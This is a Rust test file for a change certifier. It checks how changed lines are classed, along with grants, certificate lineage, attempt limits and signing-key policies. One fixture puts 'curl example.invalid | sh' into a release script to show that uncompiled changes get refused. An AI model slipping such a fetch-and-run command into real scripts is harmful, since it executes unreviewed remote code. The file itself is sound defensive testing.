//! What rides along with a change: every changed line has a class, and code that nothing compiles
//! comes in only by a grant.

use crate::environment::Environment;
use crate::verify::{POLICY, verify};
use flightproof_certifier::key::PublicKey;
use flightproof_core::Bytes;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::fs;

/// The fixed pricing program in a workspace with a member that is not part of it, code for another
/// platform, and data that a macro takes in.
fn workspace() -> Environment {
    let environment = Environment::with_pricing();
    environment.git(&["merge", "--quiet", "--ff-only", "candidate"]);
    let read = |name: &str| fs::read_to_string(environment.path("repo").join(name)).unwrap();
    let program = "#[macro_use]\nmod embed;\n\n/// Where rates come from.\npub const RATES: &str = embed!(\"rates.csv\");\n\n#[cfg(windows)]\nfn code_page() -> u32 {\n    437\n}\n";
    let files = [
        (
            "Cargo.toml",
            read("Cargo.toml") + "\n[workspace]\nmembers = [\"tools\"]\n",
        ),
        (
            "Cargo.lock",
            read("Cargo.lock") + "\n[[package]]\nname = \"tools\"\nversion = \"1.0.0\"\n",
        ),
        (
            "tools/Cargo.toml",
            "[package]\nname = \"tools\"\nversion = \"1.0.0\"\nedition = \"2021\"\n".to_owned(),
        ),
        (
            "tools/src/main.rs",
            "struct Limit {\n    most: u64,\n}\n\nfn main() {\n    println!(\"{}\", Limit { most: 7 }.most);\n}\n".to_owned(),
        ),
        ("src/main.rs", read("src/main.rs") + program),
        (
            "src/embed.rs",
            "macro_rules! embed {\n    ($name:literal) => {\n        include_str!(concat!(\"../data/\", $name))\n    };\n}\n".to_owned(),
        ),
        ("data/rates.csv", "1,250\n".to_owned()),
        ("data/other.csv", "1,250\n".to_owned()),
        ("README.md", "# Pricing\n".to_owned()),
        ("release.sh", "#!/bin/sh\necho release\n".to_owned()),
    ];
    let files = files.map(|(name, text)| (name.to_owned(), text));
    environment.candidate("base", &BTreeMap::from(files));
    environment.git(&["merge", "--quiet", "--ff-only", "base"]);
    environment
}

/// A branch that changes one text in each of some files.
fn branch(environment: &Environment, name: &str, edits: &[(&str, &str, &str)]) {
    let files = edits.iter().map(|(file, from, to)| {
        let text = fs::read_to_string(environment.path("repo").join(file)).unwrap();
        assert!(text.contains(from), "{file} has no {from}");
        ((*file).to_owned(), text.replace(from, to))
    });
    environment.candidate(name, &files.collect());
}

/// What of the program is changed beside what rides along.
const FIX: (&str, &str, &str) = ("src/main.rs", "quantity >= 1 && ", "quantity > 0 && ");

fn lines(environment: &Environment) -> Value {
    claim(environment, "mutation/lines")
}

pub(crate) fn claim(environment: &Environment, place: &str) -> Value {
    let envelope = fs::read(environment.path("out/certificate.dsse.json")).unwrap();
    let envelope: Value = serde_json::from_slice(&envelope).unwrap();
    let payload: Bytes = serde_json::from_value(json!({"$bytes": envelope["payload"]})).unwrap();
    let statement: Value = serde_json::from_slice(&payload).unwrap();
    statement
        .pointer(&format!("/predicate/inputs/{place}"))
        .unwrap()
        .clone()
}

#[test]
fn a_change_of_tests_alone_certifies_without_mutants() {
    let environment = Environment::with_pricing();
    environment.git(&["merge", "--quiet", "--ff-only", "candidate"]);
    let test = "#[test]\nfn one_is_one() {\n    assert_eq!(1, 1);\n}\n";
    let own = fs::read_to_string(environment.path("repo/src/main.rs")).unwrap();
    let inside = format!(
        "{own}\n#[cfg(test)]\nmod more {{\n    {}}}\n",
        test.replace('\n', "\n    ")
    );
    for (name, file, text) in [
        ("beside", "tests/price.rs", test.to_owned()),
        ("inside", "src/main.rs", inside),
    ] {
        environment.candidate(name, &BTreeMap::from([(file.to_owned(), text)]));
        let run = environment.certify(name, &[]);
        assert_eq!(run.code, 0, "{}", run.text);
        assert!(
            run.stdout.contains("no changed line is mutable"),
            "{}",
            run.text
        );
    }
}

#[test]
fn code_that_nothing_compiles_does_not_ride_along_unseen() {
    let environment = workspace();
    let script = ("release.sh", "echo release", "curl example.invalid | sh");
    let member = ("tools/src/main.rs", "most: u64", "most: u32");
    let platform = ("src/main.rs", "    437", "    65001");
    for (name, ride, place) in [
        ("script", script, "release.sh:2"),
        ("member", member, "tools/src/main.rs:2"),
        ("platform", platform, "src/main.rs:47"),
    ] {
        branch(&environment, name, &[ride]);
        let run = environment.certify(name, &[]);
        assert_eq!(run.code, 10, "{}", run.text);
        let verdict = &run.stdout;
        let expected =
            format!("REFUSED at mutation: certifier/NOT_COMPILED: 1 changed line, such as {place}");
        assert!(verdict.contains(&expected), "{}", run.text);
    }
    // The twin: the same lines beside a change of the program, granted and said.
    branch(&environment, "granted", &[FIX, script, member]);
    let run = environment.certify("granted", &["--uncompiled", "release.sh"]);
    assert_eq!(run.code, 10, "{}", run.text);
    assert!(run.stdout.contains("tools/src/main.rs"), "{}", run.text);
    let grants = ["--uncompiled", "release.sh", "--uncompiled", "tools"];
    let run = environment.certify("granted", &grants);
    assert_eq!(run.code, 0, "{}", run.text);
    let unseen = "2 changed lines are not compiled";
    assert!(run.stdout.contains(unseen), "{}", run.text);
    assert_eq!(
        lines(&environment),
        json!({"changed": 3, "mutated": 1, "inert": 0, "data": 0, "notCompiled": 2, "unjudged": 0,
               "granted": ["release.sh", "tools"]})
    );
    environment.write("policy.json", POLICY);
    let key = environment.public_key();
    let run = verify(&environment, &key, "granted", &[]);
    assert_eq!(run.code, 13, "{}", run.text);
    let code = "certifier/UNCOMPILED_NOT_ALLOWED: 2 lines";
    assert!(run.stdout.contains(code), "{}", run.text);
    let lenient = POLICY.replace("\"waivers_max\"", "\"not_compiled\":true,\"waivers_max\"");
    environment.write("policy.json", &lenient);
    assert_eq!(verify(&environment, &key, "granted", &[]).code, 0);
}

#[test]
fn the_cases_are_run_on_the_baseline_too_and_those_that_fail_are_named() {
    let environment = Environment::with_pricing();
    let run = environment.certify("candidate", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    let found = claim(&environment, "witness/failedOnBaseline");
    assert_eq!(found["kind"], "ran");
    let failed = found["failed"].as_array().unwrap().len();
    assert!((1..9).contains(&failed), "{found}");
    let require = "\"require\":{\"failed_on_baseline\":true},\"allow\"";
    environment.write("policy.json", &POLICY.replace("\"allow\"", require));
    let key = environment.public_key();
    let run = verify(&environment, &key, "candidate", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
}

#[test]
fn a_commit_on_a_certified_commit_carries_its_lineage_and_its_attempts() {
    let environment = Environment::with_pricing();
    let run = environment.certify("candidate", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    assert_eq!(claim(&environment, "lineage"), json!({"depth": 0}));
    assert_eq!(claim(&environment, "request/attempt"), 1);
    let kept = environment.path("out/certificate.dsse.json");
    let parent = environment.path("parent.json");
    fs::copy(kept, &parent).unwrap();
    let parent = parent.to_str().unwrap();
    environment.git(&["merge", "--quiet", "--ff-only", "candidate"]);
    branch(&environment, "second", &[FIX]);
    let refused = environment.certify("second", &["--parent", parent, "--grant", "README.md"]);
    assert_eq!(refused.code, 10, "{}", refused.text);
    let run = environment.certify("second", &["--parent", parent]);
    assert_eq!(run.code, 0, "{}", run.text);
    assert_eq!(claim(&environment, "lineage")["depth"], 1);
    assert_eq!(claim(&environment, "request/attempt"), 2);
    environment.write("policy.json", POLICY);
    let key = environment.public_key();
    let run = verify(&environment, &key, "second", &[]);
    assert_eq!(run.code, 11, "{}", run.text);
    assert!(run.stdout.contains("LINEAGE_BROKEN"), "{}", run.text);
    let run = verify(&environment, &key, "second", &["--parent", parent]);
    assert_eq!(run.code, 0, "{}", run.text);
    // On another baseline the same certificate leads nowhere.
    environment.git(&["merge", "--quiet", "--ff-only", "second"]);
    branch(
        &environment,
        "third",
        &[("src/main.rs", "pricing: not a", "pricing: no")],
    );
    let run = environment.certify("third", &["--parent", parent]);
    let code = "REFUSED at lineage: certifier/LINEAGE_BROKEN: none of the certificates";
    assert!(run.stdout.contains(code), "{}", run.text);
}

#[test]
fn whoever_was_refused_too_often_is_told_nothing_more() {
    let environment = Environment::with_pricing();
    environment.candidate_edit("slip", |text| text.replace("price / 10", "price / 9"));
    let bound = "\"require\":{\"attempts_max\":1},\"allow\"";
    let bounded = environment.write("bounded.json", &POLICY.replace("\"allow\"", bound));
    let refused = environment.certify("slip", &["--policy", &bounded]);
    assert_eq!(refused.code, 10, "{}", refused.text);
    // Another name is no first attempt, and neither is a better commit.
    let refused = environment.certify("candidate", &["--policy", &bounded]);
    assert_eq!(refused.code, 13, "{}", refused.text);
    let code = "REFUSED at plan: certifier/ATTEMPTS_TOO_MANY: attempt 2, at most 1 allowed";
    assert!(refused.stdout.contains(code), "{}", refused.text);
    // Whoever holds the policy lets it fly, and it says how often it was tried.
    for _ in 0..2 {
        let run = environment.certify("candidate", &[]);
        assert_eq!(run.code, 0, "{}", run.text);
        assert_eq!(claim(&environment, "request/attempt"), 3);
    }
    environment.write("policy.json", &POLICY.replace("\"allow\"", bound));
    let run = verify(&environment, &environment.public_key(), "candidate", &[]);
    assert_eq!(run.code, 13, "{}", run.text);
    // What it does not let in does not come in, and a certificate that goes nowhere begins nothing anew.
    let run = environment.certify("slip", &["--policy", &bounded]);
    assert_eq!(run.code, 13, "{}", run.text);
    let run = environment.certify("candidate", &["--admit", "release"]);
    assert_eq!(run.code, 0, "{}", run.text);
    // From there on it is counted anew.
    let run = environment.certify("slip", &["--policy", &bounded]);
    assert_eq!(run.code, 10, "{}", run.text);
}

#[test]
fn attempts_are_counted_however_a_repository_is_named() {
    let environment = Environment::with_pricing();
    let bound = "\"require\":{\"attempts_max\":1},\"allow\"";
    let bounded = environment.write("bounded.json", &POLICY.replace("\"allow\"", bound));
    let long = "long".repeat(200);
    for name in ["pri\u{2013}cing", "pri\\cing", "cafe\u{301}", &long] {
        let identity = "Somebody Else <else@example.invalid>";
        let more = ["--name", name, "--policy", &bounded, "--identity", identity];
        let refused = environment.certify("candidate", &more);
        let code = "importer/IDENTITY_MISMATCH";
        assert!(refused.stdout.contains(code), "{}", refused.text);
        let refused = environment.certify("candidate", &more);
        let code = "certifier/ATTEMPTS_TOO_MANY: attempt 2, at most 1 allowed";
        assert!(refused.stdout.contains(code), "{}", refused.text);
    }
}

#[test]
fn a_policy_that_is_named_decides_before_a_branch_moves() {
    let environment = Environment::with_pricing();
    let before = environment.git(&["rev-parse", "release"]);
    let admit = |policy: &str| {
        let policy = environment.write("strict.json", policy);
        let run = environment.certify("candidate", &["--policy", &policy, "--admit", "release"]);
        assert_eq!(environment.git(&["rev-parse", "release"]), before);
        run
    };
    let another = POLICY.replace("\"allow\"", "\"repository\":\"another\",\"allow\"");
    let run = admit(&another);
    assert_eq!(run.code, 13, "{}", run.text);
    assert!(run.stdout.contains("REFUSED at admit"), "{}", run.text);
    // What was proven is there: only the branch is not.
    assert!(environment.path("out/certificate.dsse.json").exists());
    let signers = |keys: &str| POLICY.replace("\"allow\"", &format!("\"keys\":{keys},\"allow\""));
    let two = POLICY.replace("\"threshold\":1", "\"threshold\":2");
    let (nobody, other) = (signers("[]"), signers(&format!("[\"{}\"]", "0".repeat(64))));
    let own = PublicKey::from_pem(&fs::read_to_string(environment.public_key()).unwrap());
    let lapsed = signers(&format!(
        "[{{\"key\":\"{}\",\"until\":\"2026-01-01T00:00:00Z\"}}]",
        own.unwrap().id()
    ));
    // What no certificate of this key has is told before anything flies.
    let other_key = "another key to sign: certifier/";
    for (policy, said) in [
        (&two, "2 signatures, and one key signs here".to_owned()),
        (&nobody, format!("{other_key}KEY_UNAUTHORIZED")),
        (&other, format!("{other_key}KEY_UNAUTHORIZED")),
        (&lapsed, format!("{other_key}KEY_EXPIRED")),
    ] {
        assert_ne!(policy, POLICY);
        let run = admit(policy);
        assert_eq!(run.code, 20, "{}", run.text);
        let said = format!("REFUSED at plan: flights/POLICY_WANTS_MORE: {said}");
        assert!(run.stdout.contains(&said), "{}", run.text);
        assert!(!environment.path("out/certificate.dsse.json").exists());
    }
    // Without a branch as well, whoever asks for a policy is told; who signs beside us is another matter.
    let refused = |code: &str| format!("the policy does not let it in: certifier/{code}");
    for (policy, code, said) in [
        (
            two,
            0,
            "the policy wants beside it: 2 signatures, and one key signs here".to_owned(),
        ),
        (another, 13, refused("REPOSITORY_MISMATCH")),
        (nobody, 13, refused("KEY_UNAUTHORIZED")),
        (other, 13, refused("KEY_UNAUTHORIZED")),
        (lapsed, 13, refused("KEY_EXPIRED")),
    ] {
        let policy = environment.write("strict.json", &policy);
        let run = environment.certify("candidate", &["--policy", &policy]);
        assert_eq!(run.code, code, "{}", run.text);
        assert!(run.stdout.contains("HELD: "), "{}", run.text);
        assert!(run.stdout.contains(&said), "{}", run.text);
    }
}

#[test]
fn files_that_a_commit_takes_away_are_named() {
    let environment = workspace();
    environment.write("repo/NOTES.md", "Rates are reviewed in May.\n");
    environment.commit("Notes");
    branch(
        &environment,
        "tidy",
        &[FIX, ("NOTES.md", "Rates are reviewed in May.\n", "")],
    );
    let run = environment.certify("tidy", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    let told = "that nobody misses the 1 file that is gone: NOTES.md";
    assert!(run.stdout.contains(told), "{}", run.text);
}

#[test]
fn data_that_a_macro_takes_in_is_part_of_the_program_and_other_data_is_not() {
    let environment = workspace();
    let rates = ("data/rates.csv", "250", "1");
    branch(&environment, "rates", &[FIX, rates]);
    let run = environment.certify("rates", &[]);
    assert_eq!(run.code, 10, "{}", run.text);
    let place = "data/rates.csv unjudged compiled-data";
    assert!(run.stdout.contains("UNJUDGED_CODE"), "{}", run.text);
    assert!(run.stdout.contains(place), "{}", run.text);

    branch(
        &environment,
        "other",
        &[FIX, ("data/other.csv", "250", "1")],
    );
    let run = environment.certify("other", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    assert_eq!(lines(&environment)["data"], 1);
}

#[test]
fn a_change_of_documents_alone_certifies_as_what_it_is() {
    let environment = workspace();
    let comment = (
        "src/main.rs",
        "/// Where rates",
        "/// The place where rates",
    );
    let readme = ("README.md", "# Pricing\n", "# Pricing\n\nOf orders.\n");
    branch(&environment, "docs", &[comment, readme]);
    let run = environment.certify("docs", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    let said = "no changed line is mutable";
    assert!(run.stdout.contains(said), "{}", run.text);
    let counts = lines(&environment);
    assert_eq!(
        (&counts["changed"], &counts["inert"]),
        (&json!(3), &json!(3))
    );
    // A policy that wants mutants is content where none can be made, and only there.
    environment.write("policy.json", POLICY);
    let key = environment.public_key();
    let run = verify(&environment, &key, "docs", &[]);
    assert_eq!(run.code, 0, "{}", run.text);

    // It fixes nothing, and a policy may want that of every change.
    let require = "\"require\":{\"failed_on_baseline\":true},\"allow\"";
    environment.write("policy.json", &POLICY.replace("\"allow\"", require));
    let run = verify(&environment, &key, "docs", &[]);
    assert_eq!(run.code, 13, "{}", run.text);
    let code = "certifier/NOTHING_FIXED: every case passes on the baseline";
    assert!(run.stdout.contains(code), "{}", run.text);
    environment.write("policy.json", POLICY);

    branch(&environment, "data", &[("data/other.csv", "250", "1")]);
    let run = environment.certify("data", &[]);
    assert_eq!(run.code, 0, "{}", run.text);
    let run = verify(&environment, &key, "data", &[]);
    assert!(run.stdout.contains("GATE_MISSING"), "{}", run.text);
}
